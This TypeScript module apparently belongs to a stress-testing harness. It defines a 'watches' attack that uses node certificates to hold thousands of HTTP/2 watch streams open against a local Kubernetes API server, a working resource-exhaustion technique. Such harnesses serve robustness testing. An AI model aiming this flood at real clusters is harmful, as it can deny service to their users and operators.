import {connect, type ClientHttp2Session} from 'node:http2'
import type {Attack, Field, Identity} from '../attack.ts'
import {inTurn} from './bodies.ts'
import {rawSocket} from './sockets.ts'

const EACH = 2000
const STREAMS = 200
const PATHS = [
  '/api/v1/services?watch=1',
  '/api/v1/services?watch=1&timeoutSeconds=99999999',
  '/apis/storage.k8s.io/v1/csidrivers?watch=1&allowWatchBookmarks=1',
]

/** As many watches as a few nodes can hold. */
export const watches: Attack = {
  name: 'watches',
  aim: `${EACH} watches for each of five nodes`,
  run: async (field) => {
    await Promise.all(field.holdings.nodes.map((node) => hold(field, node)))
  },
}

async function hold(field: Field, node: Identity): Promise<void> {
  let open = 0
  let session: ClientHttp2Session | undefined
  let used = STREAMS
  const sessions = new Set<ClientHttp2Session>()
  const free = () => {
    if (session !== undefined && used < STREAMS && !session.closed) return session
    used = 0
    session = sessionOf(field, node)
    sessions.add(session)
    const made = session
    made.on('close', () => sessions.delete(made))
    return session
  }
  try {
    await field.flood({perSecond: 80, atOnce: 2}, async (number) => {
      if (open >= EACH) return
      used++
      const stream = free().request({':path': inTurn(PATHS, number)})
      stream.on('error', () => undefined)
      const status = await new Promise<number>((resolve, reject) => {
        stream.once('response', (headers) => resolve(headers[':status'] ?? 0))
        stream.once('close', () => reject(Object.assign(new Error('closed'), {code: 'closed'})))
      })
      field.count(String(status))
      if (status !== 200) return stream.close()
      open++
      stream.once('close', () => open--)
      stream.resume()
    })
  } finally {
    for (const one of sessions) one.destroy()
  }
}

function sessionOf({holdings}: Field, {certificate: cert, key}: Identity): ClientHttp2Session {
  const {ca, port} = holdings
  const session = connect(`https://127.0.0.1:${port}`, {
    ca,
    socket: rawSocket(port),
    ...(cert === undefined ? {} : {cert}),
    ...(key === undefined ? {} : {key}),
  })
  session.setMaxListeners(0)
  session.on('error', () => undefined)
  return session
}
